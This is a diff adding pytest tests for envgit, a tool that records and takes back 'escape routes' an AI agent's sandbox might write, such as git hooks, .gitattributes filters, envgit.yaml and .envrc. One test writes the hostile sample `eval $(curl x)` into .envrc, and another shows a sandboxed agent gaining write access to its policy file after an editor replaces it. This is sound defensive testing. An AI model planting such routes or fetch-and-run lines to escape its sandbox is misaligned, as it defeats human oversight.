@@ -1,0 +1,158 @@
+"""Changes made outside the sandbox while an agent's session is open (`envgit claude`: its
+first step, marked `agent-session`, is live until the agent exits): the person's edit of an
+escape route (envgit.yaml in their editor, a git hook) is recorded as theirs, an `outside`
+step of those paths only, and never as the next step's escape route, while what a sandbox
+could have written (the agent's own sandbox, a step) is still charged to a step."""
+
+import json
+import os
+import signal
+import subprocess
+import time
+
+from envgit.daemon.client import connect
+from envgit.paths import Project
+from envgit.sandbox.seccomp import program
+
+
+class AgentSession:
+    """An agent's session as `envgit claude` opens it, without the agent: the record-only
+    step marked agent-session, and a long-lived sandbox of the daemon's `spec` (inner socket
+    bound in, as Claude's own) running `script`."""
+
+    def __init__(self, proj, session, script):
+        self.proj, self.session = proj, session
+        self.conn = connect(Project(str(proj.root)))
+        began = self.conn.request({"op": "begin", "record_only": True, "argv": ["claude"], "cwd": str(proj.root),
+                                   "env": {}, "pid": os.getpid(), "uid": os.getuid(), "session": session,
+                                   "marks": ["agent-session"]})
+        self.step = began["step"]
+        spec = self.conn.request({"op": "spec", "argv": ["/bin/sh", "-c", script], "cwd": str(proj.root),
+                                  "env": proj.env, "session": session, "step": self.step, "inner": True})
+        assert "bwrap" in spec, spec
+        fd = os.memfd_create("s", 0)
+        os.write(fd, program())
+        os.lseek(fd, 0, 0)
+        self.proc = subprocess.Popen([spec["bwrap"][0], "--seccomp", str(fd), *spec["bwrap"][1:]],
+                                     env=spec["env"], pass_fds=[fd], start_new_session=True,
+                                     stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
+        os.close(fd)
+        self.tmp = proj.root / ".envgit" / "sessions" / session / "tmp"    # its /tmp
+
+    def wait_for(self, path, what):
+        for _ in range(200):
+            if path.exists():
+                return
+            assert self.proc.poll() is None, self.proc.stderr.read().decode()
+            time.sleep(0.05)
+        raise AssertionError(f"the agent's sandbox never {what}")
+
+    def end(self):
+        if self.proc.poll() is None:
+            os.killpg(self.proc.pid, signal.SIGKILL)
+        self.proc.wait(timeout=30)
+        return self.conn.request({"op": "end", "step": self.step, "exit_code": 0, "signal": None,
+                                  "duration_ms": 1})
+
+
+def log(proj):
+    return {s["id"]: s for s in json.loads(proj.envgit("log", "--json", check=True).stdout)}
+
+
+def paths_of(step):
+    return sorted(p["path"] for p in (step.get("snapshot") or {}).get("paths", []))
+
+
+def test_the_persons_edit_of_escape_routes_during_an_agent_session_is_theirs(proj):
+    """The person edits envgit.yaml and adds a git hook from the host while the agent's
+    session is open and its sandbox holds a draft it has not recorded yet: the next step
+    (`true`) is not told it wrote an escape route, nothing is taken back, and an `outside`
+    step holds exactly the person's two paths (the draft is not in it); the hook edited again
+    after that step is theirs too when the session ends, not the session step's."""
+    assert proj.run("true").returncode == 0
+    agent = AgentSession(proj, "claude-outside-1", "echo draft > notes.txt; exec sleep 60")
+    try:
+        agent.wait_for(proj.root / "notes.txt", "wrote its draft")
+        with open(proj.root / "envgit.yaml", "a") as f:          # the person's editor, in place
+            f.write("# the person's note\n")
+        hook = proj.root / ".git" / "hooks" / "pre-commit"
+        hook.write_text("#!/bin/sh\necho the person's hook\n")
+        hook.chmod(0o755)
+        r = proj.run("true")
+        assert r.returncode == 0, r.stderr
+        assert "ESCAPE ROUTE" not in r.stderr and "took back" not in r.stderr, r.stderr
+        assert hook.exists() and "the person's note" in (proj.root / "envgit.yaml").read_text()
+        steps = log(proj)
+        true_step = max(i for i, s in steps.items() if s["argv"] == ["sh", "-c", "true"])
+        outside = [s for i, s in steps.items() if agent.step < i < true_step and "outside" in s["marks"]]
+        assert len(outside) == 1, steps
+        assert paths_of(outside[0]) == [".git/hooks/pre-commit", "envgit.yaml"], outside[0]
+        assert "sandbox-alive" not in outside[0]["marks"], outside[0]
+        mine = steps[true_step]
+        assert "escape-route-written" not in mine["marks"] and not mine.get("escape_routes"), mine
+        assert "notes.txt" in paths_of(mine), mine          # the agent's draft is a step's, not the person's
+        hook.write_text("#!/bin/sh\necho the person's hook, again\n")    # after the session's last step
+        ended = agent.end()
+        assert "escape-route-written" not in ended["marks"], ended
+        at_end = [s for i, s in log(proj).items() if i > true_step and "outside" in s["marks"]]
+        assert [paths_of(s) for s in at_end] == [[".git/hooks/pre-commit"]], at_end
+        assert at_end[0]["outside"]["before"] == "agent-end", at_end
+    finally:
+        agent.end()
+
+
+def test_what_a_sandbox_could_write_is_still_a_steps_escape_route(proj):
+    """The same session, where the agent's own sandbox also writes a `mark` route (writable in
+    every sandbox) and the next step creates an .envrc: both are that step's escape routes
+    (said loudly, the .envrc taken back); only the person's envgit.yaml edit is theirs."""
+    assert proj.run("true").returncode == 0
+    agent = AgentSession(proj, "claude-outside-2",
+                         "echo '*.bin filter=x' > .gitattributes; exec sleep 60")
+    try:
+        agent.wait_for(proj.root / ".gitattributes", "wrote .gitattributes")
+        with open(proj.root / "envgit.yaml", "a") as f:
+            f.write("# the person's note\n")
+        r = proj.run("echo 'eval $(curl x)' > .envrc")
+        assert "WROTE AN ESCAPE ROUTE" in r.stderr and ".gitattributes" in r.stderr, r.stderr
+        assert "took back" in r.stderr and ".envrc" in r.stderr, r.stderr
+        assert not (proj.root / ".envrc").exists()
+        steps = log(proj)
+        step = max(i for i, s in steps.items() if s["argv"][:2] == ["sh", "-c"] and ".envrc" in s["argv"][2])
+        assert sorted(steps[step]["escape_routes"]) == [".envrc", ".gitattributes"], steps[step]
+        outside = [s for i, s in steps.items() if agent.step < i < step and "outside" in s["marks"]]
+        assert [paths_of(s) for s in outside] == [["envgit.yaml"]], outside
+    finally:
+        agent.end()
+
+
+def test_a_route_the_person_replaced_is_theirs_and_then_writable_in_the_agents_sandbox(proj):
+    """An editor that saves by renaming a new file over envgit.yaml detaches the read-only bind
+    the agent's sandbox had on it (the kernel drops a mount on a dentry renamed over): that
+    change is the person's; a later write from the agent's sandbox, which it now can make, is
+    the next step's escape route, taken back to the person's version."""
+    assert proj.run("true").returncode == 0
+    agent = AgentSession(proj, "claude-outside-3",
+                         "while [ ! -e /tmp/go ]; do sleep 0.05; done; echo '# the agent' >> envgit.yaml; "
+                         "touch /tmp/done; exec sleep 60")
+    try:
+        assert proj.run("true").returncode == 0          # a step of the session before the edit
+        policy = proj.root / "envgit.yaml"
+        new = proj.root / "envgit.yaml.new"
+        new.write_text(policy.read_text() + "# the person's note\n")
+        os.replace(new, policy)
+        r = proj.run("true")
+        assert "ESCAPE ROUTE" not in r.stderr and "took back" not in r.stderr, r.stderr
+        (agent.tmp / "go").write_text("")
+        agent.wait_for(agent.tmp / "done", "wrote envgit.yaml")
+        assert "# the agent" in policy.read_text()
+        r = proj.run("true")
+        assert "took back" in r.stderr and "envgit.yaml" in r.stderr, r.stderr
+        text = policy.read_text()           # back to the person's version
+        assert "# the person's note" in text and "# the agent" not in text, text
+        steps = log(proj)
+        last = max(i for i, s in steps.items() if s["argv"] == ["sh", "-c", "true"])
+        assert "escape-route-written" in steps[last]["marks"] and steps[last]["escape_routes"] == ["envgit.yaml"]
+        outside = [s for i, s in steps.items() if i > agent.step and "outside" in s["marks"]]
+        assert [paths_of(s) for s in outside] == [["envgit.yaml"]], outside
+    finally:
+        agent.end()
